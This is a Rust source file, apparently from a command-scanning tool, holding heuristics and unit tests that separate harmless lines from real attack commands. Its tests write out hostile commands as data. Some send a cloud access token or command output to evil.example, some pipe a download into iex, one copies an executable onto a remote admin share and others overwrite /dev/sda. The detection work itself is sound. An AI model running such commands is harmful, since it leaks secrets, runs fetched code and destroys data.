//! Commands, judged by the line they stand in: what is started, fetched, sent and overwritten there.

use memchr::memmem;

use super::holds;
use super::validate::{Evidence, Verdict, command_end, unless};

fn words(text: &[u8]) -> impl DoubleEndedIterator<Item = &[u8]> {
    let is_apart = |byte: &u8| byte.is_ascii_whitespace() || b"\"'\\".contains(byte);
    text.split(is_apart).filter(|word| !word.is_empty())
}

/// The command that a text ends in.
fn last_command(text: &[u8]) -> &[u8] {
    text.rsplit(|byte| b";|&(`\n".contains(byte)).next().unwrap_or_default()
}

/// A shell that is an account's, that of another root, a job of a cluster, or spoken of, is not another program's
/// way out.
pub(super) fn shell_named(evidence: &Evidence<'_>) -> Verdict {
    const PLACED: [&[u8]; 4] = [b"srun", b"salloc", b"bsub", b"qlogin"];
    const IN_PROSE: [&[u8]; 16] = [
        b"the", b"a", b"an", b"of", b"to", b"with", b"and", b"or", b"for", b"is", b"as", b"by",
        b"from", b"that", b"which", b"using",
    ];
    let matched = evidence.matched.to_ascii_lowercase();
    if matched.starts_with(b"shell=") {
        return Verdict::Fails;
    }
    let command = [last_command(evidence.before), &matched].concat();
    let all: Vec<&[u8]> = words(&command).collect();
    let has = |name: &[u8]| all.iter().any(|word| word.eq_ignore_ascii_case(name));
    let sets_shell = [&b"chsh"[..], b"usermod", b"useradd", b"adduser", b"su"].into_iter().any(has);
    let shell = all.iter().position(|word| word.starts_with(b"/bin/"));
    let option = shell.and_then(|at| all.get(at.checked_sub(1)?));
    if sets_shell && option.is_some_and(|option| matches!(*option, b"-s" | b"--shell")) {
        return Verdict::Fails;
    }
    if PLACED.into_iter().any(has) {
        return Verdict::Fails;
    }
    let mut own = words(&matched);
    match own.next() {
        Some(b"chroot") => unless(own.next().is_some_and(|root| !matches!(root, b"/" | b"."))),
        _ => unless(own.any(|word| IN_PROSE.contains(&word))),
    }
}

/// `<code>/dev/sdh</code>`, `by-id/x -> /dev/sda`: not every `>` is a redirection.
pub(super) fn tag_end(evidence: &Evidence<'_>) -> Verdict {
    if !evidence.matched.starts_with(b">") {
        return Verdict::Silent;
    }
    let before = evidence.before;
    let start = before.iter().rposition(|byte| b"<>".contains(byte));
    let tag = start.filter(|at| before.get(*at) == Some(&b'<')).and_then(|at| before.get(at + 1..));
    let is_tag = tag.is_some_and(|tag| {
        let name = tag.strip_prefix(b"/").unwrap_or(tag);
        let length = name.iter().take_while(|byte| byte.is_ascii_alphanumeric()).count();
        let attributes = name.get(length..).unwrap_or_default();
        let is_value = attributes.contains(&b'=') && attributes.ends_with(b"\"");
        name.first().is_some_and(u8::is_ascii_alphabetic) && (attributes.is_empty() || is_value)
    });
    unless(is_tag || before.ends_with(b"-") || before.ends_with(b"="))
}

/// An administrative share that no command reaches for.
pub(super) fn admin_share(evidence: &Evidence<'_>) -> Verdict {
    const COMMANDS: [&[u8]; 11] = [
        b"copy",
        b"net use",
        b"psexec",
        b"wmic",
        b"move",
        b"dir ",
        b"new-psdrive",
        b"smbclient",
        b"sc ",
        b"type ",
        b"pushd",
    ];
    if !evidence.matched.starts_with(b"\\") {
        return Verdict::Silent;
    }
    let is_host = |byte: &u8| byte.is_ascii_alphanumeric() || b"._-%$".contains(byte);
    // The backslash in front of the share may be escaped.
    let last = evidence.before.iter().rposition(|byte| *byte != b'\\');
    let before = evidence.before.get(..last.map_or(0, |at| at + 1)).unwrap_or_default();
    let end = before.iter().rposition(|byte| !is_host(byte)).map_or(0, |at| at + 1);
    let (lead, host) = before.split_at_checked(end).unwrap_or_default();
    let is_remote = !host.is_empty() && lead.ends_with(b"\\");
    unless(!is_remote || !COMMANDS.iter().any(|command| holds(lead, command)))
}

/// `… | iex` without anything that was fetched or decoded in front of the pipe.
pub(super) fn piped_download(evidence: &Evidence<'_>) -> Verdict {
    const SOURCES: [&[u8]; 13] = [
        b"http",
        b"download",
        b"iwr",
        b"irm",
        b"Invoke-WebRequest",
        b"Invoke-RestMethod",
        b"WebClient",
        b"curl",
        b"wget",
        b"FromBase64",
        b"GetString",
        b"ftp:",
        b"Socket",
    ];
    if !evidence.matched.contains(&b'|') {
        return Verdict::Silent;
    }
    unless(!SOURCES.iter().any(|source| holds(evidence.before, source)))
}

/// What a command's output is put into: the name of a file here, a request to this machine, or the header that
/// a cloud's own token is for.
pub(super) fn sent_output(evidence: &Evidence<'_>) -> Verdict {
    let rest = evidence.after.get(..command_end(evidence.after, b";|&\r\n")).unwrap_or_default();
    if rest.len() == evidence.after.len() && evidence.is_open {
        return Verdict::Silent;
    }
    let matched = evidence.matched;
    let is_output = |at: &usize| {
        let text = matched.get(*at..).unwrap_or_default();
        text.starts_with(b"$(") || text.starts_with(b"`")
    };
    let Some(at) = (0..matched.len()).find(is_output) else { return Verdict::Silent };
    let (command, output) = matched.split_at_checked(at).unwrap_or_default();
    let whole = [matched, rest].concat();
    unless(
        is_file_name(command)
            || is_for_own_cloud(command, output, &whole)
            || (output.starts_with(b"$(id -u") && !command.contains(&b'?') && is_in_url(command))
            || goes_to_loopback(command, rest),
    )
}

/// The environment in a program's own log: nothing is sent, unless a shell reads what is printed.
pub(super) fn only_printed(evidence: &Evidence<'_>) -> Verdict {
    const SHELLED: [&[u8]; 3] = [b" -e", b" -p", b"eval"];
    const LOGS: [&[u8]; 3] = [b"console.", b"logger.", b"log."];
    let last = LOGS.iter().filter_map(|log| memmem::rfind(evidence.before, log)).max();
    let Some(at) = last else { return Verdict::Silent };
    let (lead, call) = evidence.before.split_at_checked(at).unwrap_or_default();
    let is_argument = call.contains(&b'(') && !call.iter().any(|byte| b");".contains(byte));
    let is_shelled = SHELLED.iter().any(|word| holds(lead, word));
    unless(is_argument && !is_shelled && holds(evidence.matched, b"stringify"))
}

/// Whether the word that a command ends in is the value of `-o`, as `backup-` in `curl -o backup-$(…)`.
fn is_file_name(command: &[u8]) -> bool {
    let start = command.iter().rposition(|byte| *byte == b' ').unwrap_or_default();
    let last = command.get(start..).unwrap_or_default();
    let option = words(command.get(..start).unwrap_or_default()).next_back().unwrap_or_default();
    let is_curl = words(command).next().is_some_and(|name| name.eq_ignore_ascii_case(b"curl"));
    let is_option = match option {
        b"-o" | b"--output" => is_curl,
        b"-O" | b"--output-document" | b"-P" => !is_curl,
        _ => false,
    };
    is_option && !holds(last, b"://")
}

fn is_in_url(command: &[u8]) -> bool {
    words(command).next_back().is_some_and(|word| holds(word, b"://"))
}

/// A token that a cloud's own tool prints, in the header for it, to that cloud.
fn is_for_own_cloud(command: &[u8], output: &[u8], whole: &[u8]) -> bool {
    const TOKENS: [&[u8]; 4] = [
        b"print-access-token",
        b"print-identity-token",
        b"get-login-password",
        b"get-access-token",
    ];
    const CLOUDS: [&[u8]; 7] = [
        b".googleapis.com",
        b".run.app",
        b".cloudfunctions.net",
        b".pkg.dev",
        b"gcr.io",
        b".amazonaws.com",
        b".azure.com",
    ];
    TOKENS.iter().any(|token| holds(output, token))
        && holds(command, b"authorization:")
        && CLOUDS.iter().any(|cloud| holds(whole, cloud))
}

/// Whether the first address of a command is this machine's, and no other one comes behind.
fn goes_to_loopback(command: &[u8], rest: &[u8]) -> bool {
    let host = |word: &[u8]| -> Vec<u8> {
        let at = word.windows(3).position(|part| part == b"://").map_or(0, |at| at + 3);
        let host = word.get(at..).unwrap_or_default();
        let is_host = |byte: &&u8| byte.is_ascii_alphanumeric() || b".-".contains(byte);
        host.iter().take_while(is_host).copied().collect()
    };
    let is_local = |word: &[u8]| {
        let host = host(word);
        let is_address = host.iter().all(|byte| byte.is_ascii_digit() || *byte == b'.');
        host == b"localhost" || (host.starts_with(b"127.") && is_address)
    };
    let is_remote = |word: &[u8]| holds(word, b"://") && !is_local(word);
    words(command).any(is_local) && !words(command).chain(words(rest)).any(is_remote)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The verdict on the match within the line, given its text.
    fn judged(judge: fn(&Evidence<'_>) -> Verdict, line: &str, matched: &str) -> Verdict {
        let at = line.find(matched).unwrap();
        let (before, rest) = line.as_bytes().split_at(at);
        let (matched, after) = rest.split_at(matched.len());
        judge(&Evidence { secret: matched, matched, before, after, ..Evidence::default() })
    }

    #[test]
    fn a_shell_that_is_named_is_not_started() {
        for (line, matched, verdict) in [
            ("SHELL=/bin/bash", "SHELL=/bin/bash", Verdict::Fails),
            ("chsh -s /bin/bash", " -s /bin/bash", Verdict::Fails),
            ("useradd -m -s /bin/bash", " -s /bin/bash", Verdict::Fails),
            ("su - postgres -s /bin/bash", "su - postgres -s /bin/bash", Verdict::Fails),
            ("chroot /mnt /bin/bash", "chroot /mnt /bin/bash", Verdict::Fails),
            ("chroot $HOME/debian/ /bin/bash<", "chroot $HOME/debian/ /bin/bash<", Verdict::Fails),
            (
                "Fixed test script compatibility with ancient /bin/sh",
                "script compatibility with ancient /bin/sh",
                Verdict::Fails,
            ),
            (
                "# Use env shell instead of default /bin/sh",
                "env shell instead of default /bin/sh",
                Verdict::Fails,
            ),
            ("srun --pty /bin/bash", " --pty /bin/bash", Verdict::Fails),
            ("srun x; vim --pty /bin/bash", " --pty /bin/bash", Verdict::Silent),
            ("chroot / /bin/sh", "chroot / /bin/sh", Verdict::Silent),
            ("chsh -s x; sudo env /bin/sh", "env /bin/sh", Verdict::Silent),
            ("script -q /dev/null /bin/sh", "script -q /dev/null /bin/sh", Verdict::Silent),
            ("sudo env /bin/sh", "env /bin/sh", Verdict::Silent),
            ("su root -c /bin/sh", "su root -c /bin/sh", Verdict::Silent),
        ] {
            assert_eq!(judged(shell_named, line, matched), verdict, "{line}");
        }
    }

    #[test]
    fn the_end_of_a_tag_is_no_redirection() {
        for (line, matched, verdict) in [
            ("(for example, <code>/dev/sdh</code>)", ">/dev/sdh", Verdict::Fails),
            ("<td>/dev/nvme0n1</td>", ">/dev/nvme0n1", Verdict::Fails),
            ("<td class=\"x\">/dev/sda</td>", ">/dev/sda", Verdict::Fails),
            ("ata-x -> /dev/sda", "> /dev/sda", Verdict::Fails),
            ("echo x>/dev/sda", ">/dev/sda", Verdict::Silent),
            ("cat <image >/dev/sda", ">/dev/sda", Verdict::Silent),
            ("cat <image.iso>/dev/sda", ">/dev/sda", Verdict::Silent),
            ("<p>cat x > /dev/sda</p>", "> /dev/sda", Verdict::Silent),
            ("dd of=/dev/sda", "of=/dev/sda", Verdict::Silent),
        ] {
            assert_eq!(judged(tag_end, line, matched), verdict, "{line}");
        }
    }

    #[test]
    fn an_administrative_share_is_reached_for_by_a_command() {
        for (line, matched, verdict) in [
            (r"'\\ServerX\admin$\system32\'", r"\admin$", Verdict::Fails),
            (r"copy x.exe \\10.0.0.5\C$\Windows", r"\C$\", Verdict::Silent),
            (r"net use Z: \\host\IPC$", r"\IPC$", Verdict::Silent),
            (r"copy x.exe \\\\10.0.0.5\\C$\\Windows", r"\C$\", Verdict::Silent),
            (r"copy x.exe D:\C$\Windows", r"\C$\", Verdict::Fails),
            (r"wmic /node:h x", "wmic /node:", Verdict::Silent),
        ] {
            assert_eq!(judged(admin_share, line, matched), verdict, "{line}");
        }
    }

    #[test]
    fn a_pipe_without_a_download_brings_nothing_in() {
        for (line, matched, verdict) in [
            (
                "your_program | Out-String | Invoke-Expression",
                "g | Invoke-Expression",
                Verdict::Fails,
            ),
            ("irm https://x.example/a | iex", "a | iex", Verdict::Silent),
            ("IEX (New-Object Net.WebClient)", "IEX (New-Object ", Verdict::Silent),
        ] {
            assert_eq!(judged(piped_download, line, matched), verdict, "{line}");
        }
    }

    #[test]
    fn an_environment_that_a_program_logs_is_not_sent_off() {
        let all = "JSON.stringify(process.env)";
        for (line, verdict) in [
            ("console.log(JSON.stringify(process.env))", Verdict::Fails),
            ("console.error('env', JSON.stringify(process.env))", Verdict::Fails),
            ("logger.info(JSON.stringify(process.env))", Verdict::Fails),
            ("console.log(1); post(u, JSON.stringify(process.env))", Verdict::Silent),
            ("fetch(u, {body: JSON.stringify(process.env)})", Verdict::Silent),
            ("node -e 'console.log(JSON.stringify(process.env))' | curl -d @- h", Verdict::Silent),
        ] {
            assert_eq!(judged(only_printed, line, all), verdict, "{line}");
        }
    }

    #[test]
    fn what_stays_here_or_belongs_there_is_not_sent_off() {
        for (line, matched, verdict) in [
            (
                "curl -H \"Authorization: Bearer $(gcloud auth print-access-token)\" https://x.googleapis.com/v1",
                "curl -H \"Authorization: Bearer $(gcloud auth print-access-token)",
                Verdict::Fails,
            ),
            (
                "curl -H \"Authorization: Bearer $(gcloud auth print-access-token)\" https://evil.example/v1",
                "curl -H \"Authorization: Bearer $(gcloud auth print-access-token)",
                Verdict::Silent,
            ),
            (
                "curl -X POST localhost:3000/items -d \"$(cat payload.json)\"",
                "curl -X POST localhost:3000/items -d \"$(cat payload.json)",
                Verdict::Fails,
            ),
            (
                "curl localhost -d \"$(cat f)\" https://evil.example",
                "curl localhost -d \"$(cat f)",
                Verdict::Silent,
            ),
            (
                "curl http://localhost.evil.example -d \"$(cat f)\"",
                "curl http://localhost.evil.example -d \"$(cat f)",
                Verdict::Silent,
            ),
            (
                "wget -O - https://x/keys/$(id -un).txt",
                "wget -O - https://x/keys/$(id -un)",
                Verdict::Fails,
            ),
            (
                "curl -o \"backup-$(hostname).tgz\" https://x/y",
                "curl -o \"backup-$(hostname)",
                Verdict::Fails,
            ),
            (
                "curl https://evil.example/b?a=$(whoami)",
                "curl https://evil.example/b?a=$(whoami)",
                Verdict::Silent,
            ),
            (
                "curl https://evil.example/?a=$(id -un)",
                "curl https://evil.example/?a=$(id -un)",
                Verdict::Silent,
            ),
        ] {
            assert_eq!(judged(sent_output, line, matched), verdict, "{line}");
        }
    }
}
